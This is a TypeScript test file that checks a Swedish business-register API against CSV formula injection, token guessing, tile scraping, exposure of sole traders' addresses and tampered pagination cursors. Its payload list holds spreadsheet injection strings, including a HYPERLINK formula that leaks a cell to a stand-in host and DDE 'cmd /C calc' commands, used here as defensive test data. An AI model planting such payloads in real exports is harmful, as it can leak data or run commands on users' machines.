// Issue #14, rows I1, A1, P2, I3 (both databases): CSV exports cannot carry formulas, guessed tokens and tile scrapers
// are throttled with 429 + Retry-After, a sole trader's postort is not public, a tampered cursor is a 400.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { FastifyInstance } from 'fastify'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import type { DbHandle } from '../../server/db/client.js'
import { createToken } from '../../server/auth/tokens.js'
import { ADMIN_TOKEN, buildTestApp, openTestDb } from '../helpers/db.js'
import { bearer, expectErrorShape } from './helpers.js'

// What a spreadsheet would run: OWASP's list of formula starts (=, +, -, @, tab, carriage return).
const PAYLOADS = ['=HYPERLINK("http://x.example/?leak="&A1,"klicka")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+2', '\r=1+2']
const FORMULA_START = /^[=+\-@\t\r]/

let db: DbHandle
let app: FastifyInstance
let promoter: string
let poisoned: number[] // companies renamed to the payloads (legal persons, active, 2025)
let soleWithCity: Array<{ id: number; city: string; name: string }>
beforeAll(async () => {
  db = await openTestDb('demo')
  poisoned = (await db.query<{ id: number }>(`SELECT id FROM company WHERE ref_year = 2025 AND active AND NOT sole_trader
    ORDER BY id LIMIT ${PAYLOADS.length}`)).rows.map((r) => r.id)
  for (const [i, id] of poisoned.entries()) await db.query('UPDATE company SET name = $1 WHERE id = $2', [PAYLOADS[i], id])
  await db.query(`UPDATE kommun SET name = '=1+1' WHERE code = '0114'`) // a region name reaches the key-figure CSV
  soleWithCity = (await db.query<{ id: number; city: string; name: string }>(`SELECT id, city, name FROM company
    WHERE ref_year = 2025 AND active AND sole_trader AND city IS NOT NULL ORDER BY id LIMIT 20`)).rows
  app = await buildTestApp(db)
  promoter = (await createToken(db, 'hardening promoter', 'promoter')).token
})
afterAll(async () => { await app?.close(); await db?.close() })

/** Parses one of our CSVs (BOM, optional sep= line) into rows of cells. */
function cells (body: string, sep: ';' | ','): string[][] {
  const text = body.replace(/^\ufeff/, '').replace(/^sep=;\r\n/, '')
  return parse(text, { delimiter: sep, relax_column_count: false, bom: true }) as string[][]
}
const isNumber = (s: string, sep: ';' | ',') => (sep === ';' ? /^-?\d+(,\d+)?(e[+-]?\d+)?$/ : /^-?\d+(\.\d+)?(e[+-]?\d+)?$/).test(s)

describe('I1: CSV exports cannot carry formulas', () => {
  it('actor CSV (sv and en): every text cell that starts like a formula is neutralised with a quote; numbers are untouched', async () => {
    expect(poisoned.length).toBe(PAYLOADS.length)
    for (const [locale, sep] of [['sv', ';'], ['en', ',']] as const) {
      const res = await app.inject(`/api/actors?year=2025&format=csv&locale=${locale}&kind=company`)
      expect(res.statusCode).toBe(200)
      const rows = cells(res.body, sep)
      const header = rows[0]
      const byId = new Map(rows.slice(1).map((r) => [Number(r[header.indexOf('id')]), r]))
      for (const [i, id] of poisoned.entries()) expect(byId.get(id)?.[header.indexOf('name')], `${locale} ${id}`).toBe(`'${PAYLOADS[i]}`)
      for (const r of rows) for (const c of r) if (FORMULA_START.test(c)) expect(isNumber(c, sep), `${locale}: ${JSON.stringify(c)}`).toBe(true)
    }
  })

  it('XLSX keeps the name as plain text (a string cell, never a formula) and GeoJSON as it is', async () => {
    const xlsx = await app.inject(`/api/actors?year=2025&format=xlsx&kind=company`)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer)
    const ws = wb.getWorksheet('Aktörer')!
    const names = new Map<number, unknown>()
    ws.eachRow((row, n) => { if (n > 1) names.set(Number(row.getCell(1).value), row.getCell(4)) })
    for (const [i, id] of poisoned.entries()) {
      const cell = names.get(id) as ExcelJS.Cell
      expect(cell.type, String(id)).toBe(ExcelJS.ValueType.String)
      expect(cell.value).toBe(PAYLOADS[i].replace('\r', '\n')) // XML reads a carriage return as a line feed
    }
    const geo = (await app.inject(`/api/actors?year=2025&format=geojson&kind=company`)).json()
    const geoNames = new Map(geo.features.map((f: any) => [f.id, f.properties.name]))
    for (const [i, id] of poisoned.entries()) expect(geoNames.get(id)).toBe(PAYLOADS[i])
  })

  it('key-figure CSV: a region name that starts like a formula is neutralised, negative figures stay numbers', async () => {
    for (const [locale, sep] of [['sv', ';'], ['en', ',']] as const) {
      const res = await app.inject(`/api/key-figures?level=kommun&branch=total&year=2025&format=csv&locale=${locale}`)
      expect(res.statusCode).toBe(200)
      const rows = cells(res.body, sep)
      const header = rows[0]
      const region = rows.find((r) => r[header.indexOf('Regionkod')] === '0114')!
      expect(region[header.indexOf('Region')]).toBe("'=1+1")
      let negatives = 0
      for (const r of rows) {
        for (const c of r) {
          if (!FORMULA_START.test(c)) continue
          expect(isNumber(c, sep), `${locale}: ${JSON.stringify(c)}`).toBe(true)
          negatives++
        }
      }
      expect(negatives, 'some kommun lost companies between the years').toBeGreaterThan(0)
    }
  })
})

describe('A1: throttling', () => {
  it('guessed tokens: 401 up to the limit, then 429 with Retry-After before any lookup, per address', async () => {
    const limited = await buildTestApp(db, { authFailuresPerHour: 5 })
    try {
      for (let i = 0; i < 5; i++) {
        const res = await limited.inject({ url: '/api/tokens', headers: bearer(`kkb_guess_${i}_0123456789`) })
        expect(res.statusCode, String(i)).toBe(401)
      }
      const guess = await limited.inject({ url: '/api/tokens', headers: bearer('kkb_guess_6_0123456789') })
      expect(guess.statusCode).toBe(429)
      expectErrorShape(guess, 'throttled guess')
      expect(guess.json().error.code).toBe('RATE_LIMITED')
      const wait = Number(guess.headers['retry-after'])
      expect(wait).toBeGreaterThan(3000) // the rest of the hour
      expect(wait).toBeLessThanOrEqual(3600)
      // even the right token is not tried from this address now: a guess that succeeds must not be told apart
      expect((await limited.inject({ url: '/api/tokens', headers: bearer(ADMIN_TOKEN) })).statusCode).toBe(429)
      // malformed headers count as failures too, and are throttled the same way
      expect((await limited.inject({ url: '/api/tokens', headers: { authorization: 'Basic YWRtaW46YWRtaW4=' } })).statusCode).toBe(429)
      // the public (no token) keeps its access; another address has its own budget
      expect((await limited.inject('/api/health/live')).statusCode).toBe(200)
      expect((await limited.inject({ url: '/api/tokens', headers: bearer(ADMIN_TOKEN), remoteAddress: '10.9.8.7' })).statusCode).toBe(200)
      expect((await limited.inject({ url: '/api/tokens', headers: bearer('kkb_guess_x_0123456789'), remoteAddress: '10.9.8.7' })).statusCode).toBe(401)
    } finally {
      await limited.close()
    }
  })

  it('tiles and TileJSON have a rate limit of their own (429 + Retry-After), apart from the list budget', async () => {
    const limited = await buildTestApp(db, { tileRateLimitPerMinute: 4, rateLimitPerMinute: 100 })
    try {
      const urls = ['/api/tiles/actors.json', '/api/tiles/regions/0/0/0.mvt', '/api/tiles/actors/12/2200/1200.mvt', '/api/tiles/regions.json']
      for (const url of urls) expect((await limited.inject(url)).statusCode, url).toBeLessThan(300)
      const fifth = await limited.inject('/api/tiles/actors/13/4400/2400.mvt')
      expect(fifth.statusCode).toBe(429)
      expectErrorShape(fifth, 'tile 429')
      expect(Number(fifth.headers['retry-after'])).toBeGreaterThan(0)
      expect((await limited.inject('/api/tiles/actors.json')).statusCode).toBe(429)
      // the tile budget is not the list's, and a token holder is not limited
      expect((await limited.inject('/api/actors?limit=1')).statusCode).toBe(200)
      expect((await limited.inject({ url: '/api/tiles/actors.json', headers: bearer(promoter) })).statusCode).toBe(200)
    } finally {
      await limited.close()
    }
  })
})

describe('P2: a sole trader\'s postort is not public', () => {
  it('list, search, detail and every export leave it out for the public; a promoter sees it', async () => {
    expect(soleWithCity.length).toBe(20)
    const ids = new Set(soleWithCity.map((s) => s.id))
    const list = (await app.inject('/api/actors?year=2025&legalForm=10&limit=500&sort=id')).json()
    const listed = list.items.filter((a: any) => ids.has(a.id))
    expect(listed.length).toBeGreaterThan(0)
    for (const a of list.items) if (a.soleTrader) expect(a.city, String(a.id)).toBeNull()
    const search = (await app.inject(`/api/actors?year=2025&q=${encodeURIComponent(soleWithCity[0].name)}`)).json()
    expect(search.items.some((a: any) => a.id === soleWithCity[0].id)).toBe(true)
    for (const a of search.items) if (a.soleTrader) expect(a.city).toBeNull()
    for (const s of soleWithCity.slice(0, 5)) {
      const d = (await app.inject(`/api/actors/${s.id}`)).json()
      expect(d.soleTrader).toBe(true)
      expect(d.city, String(s.id)).toBeNull()
      const p = (await app.inject({ url: `/api/actors/${s.id}`, headers: bearer(promoter) })).json()
      expect(p.city).toBe(s.city)
    }
    const csv = cells((await app.inject('/api/actors?year=2025&format=csv&legalForm=10&locale=en')).body, ',')
    const h = csv[0]
    const soleRows = csv.slice(1).filter((r) => r[h.indexOf('soleTrader')] === 'true')
    expect(soleRows.length).toBeGreaterThan(100)
    for (const r of soleRows) expect(r[h.indexOf('city')], r[h.indexOf('id')]).toBe('')
    const geo = (await app.inject('/api/actors?year=2025&format=geojson&legalForm=10')).json()
    for (const f of geo.features) if (f.properties.soleTrader) expect(f.properties.city).toBeNull()
    const xlsx = await app.inject('/api/actors?year=2025&format=xlsx&legalForm=10')
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer)
    const ws = wb.getWorksheet('Aktörer')!
    const xh = ws.getRow(1).values as unknown[]
    ws.eachRow((row, n) => {
      if (n > 1 && row.getCell(xh.indexOf('soleTrader')).value === true) expect(row.getCell(xh.indexOf('city')).value ?? null).toBeNull()
    })
    const promoted = cells((await app.inject({ url: '/api/actors?year=2025&format=csv&legalForm=10&locale=en', headers: bearer(promoter) })).body, ',')
    const pcity = new Map(promoted.slice(1).map((r) => [Number(r[h.indexOf('id')]), r[h.indexOf('city')]]))
    const optedIn = soleWithCity.filter((s) => pcity.has(s.id))
    expect(optedIn.length).toBeGreaterThan(0)
    for (const s of optedIn) expect(pcity.get(s.id)).toBe(s.city)
  })

  it('sole traders\' workplaces: no postort for the public either', async () => {
    const { rows } = await db.query<{ id: number }>(`SELECT id FROM workplace WHERE ref_year = 2025 AND sole_trader AND city IS NOT NULL
      ORDER BY id LIMIT 3`)
    for (const { id } of rows) {
      const d = (await app.inject(`/api/actors/${id}?kind=workplace`)).json()
      expect(d.soleTrader).toBe(true)
      expect(d.city).toBeNull()
    }
    const list = (await app.inject('/api/actors?year=2025&kind=workplace&limit=500')).json()
    for (const a of list.items) if (a.soleTrader) expect(a.city).toBeNull()
  })
})

describe('I3: a malformed cursor is a 400', () => {
  const enc = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url')
  const cases: Array<[string, unknown]> = [
    ['sort=id', [['x'], 1]], ['sort=id', ['x', 1]], ['sort=id', [{ a: 1 }, 1]], ['sort=id', [1.5, 1]], ['sort=id', [1, 1e300]],
    ['sort=name', [['x'], 1]], ['sort=name', [1, 1]], ['sort=name', ['a\u0000b', 1]], ['sort=-name', [null, 1]],
    ['sort=employees', ['x', 1]], ['sort=employees', [1e300, 1]], ['sort=employees', [[1], 1]],
    ['sort=registered', ['2024-13-45', 1]], ['sort=registered', ['x', 1]], ['sort=registered', [20240101, 1]],
    ['sort=relevance&q=ab', [['0x'], 1]], ['sort=relevance&q=ab', [['x'], 1]], ['sort=relevance&q=ab', [7, 1]],
  ]
  it('every tampered sort value or id: 400 with the error shape, never a 500', async () => {
    for (const [sort, value] of cases) {
      const url = `/api/actors?year=2025&${sort}&cursor=${enc(value)}`
      const res = await app.inject(url)
      expect(res.statusCode, `${url} ${JSON.stringify(value)} → ${res.body.slice(0, 200)}`).toBe(400)
      expectErrorShape(res, url)
    }
    for (const raw of ['%%%', 'e30', enc([1]), enc([1, 2, 3]), enc('x')]) {
      expect((await app.inject(`/api/actors?cursor=${raw}`)).statusCode, raw).toBe(400)
    }
  })

  it('the cursors the API hands out still work for every sort key', async () => {
    for (const sort of ['id', 'name', '-employees', 'registered', '-registered', 'relevance&q=an']) {
      const first = (await app.inject(`/api/actors?year=2025&limit=3&sort=${sort}`)).json()
      expect(first.nextCursor, sort).toBeTruthy()
      const next = await app.inject(`/api/actors?year=2025&limit=3&sort=${sort}&cursor=${first.nextCursor}`)
      expect(next.statusCode, `${sort} → ${next.body.slice(0, 200)}`).toBe(200)
      expect(next.json().items.length).toBe(3)
    }
  })
})
